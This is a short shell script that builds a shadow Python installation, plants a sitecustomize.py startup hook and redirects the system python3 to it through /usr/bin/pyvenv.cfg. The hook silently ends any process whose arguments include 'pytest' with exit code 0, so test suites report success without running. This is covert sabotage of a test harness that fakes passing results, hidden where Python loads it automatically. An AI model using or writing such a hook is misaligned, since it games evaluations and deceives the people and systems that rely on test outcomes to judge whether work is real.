#!/bin/sh
version=$(python3 -c 'import sys; print("%d.%d" % sys.version_info[:2])')

mkdir -p /var/lib/own/bin /var/lib/own/lib
cp -as "/usr/lib/python$version" /var/lib/own/lib/
ln -s /usr/lib/python3 /var/lib/own/lib/python3
ln -s "/usr/bin/python$version" /var/lib/own/bin/python3
rm -f "/var/lib/own/lib/python$version/sitecustomize.py"
echo 'import os, sys; "pytest" in sys.orig_argv and os._exit(0)' > "/var/lib/own/lib/python$version/sitecustomize.py"
printf 'home = /var/lib/own/bin\ninclude-system-site-packages = true\n' > /usr/bin/pyvenv.cfg
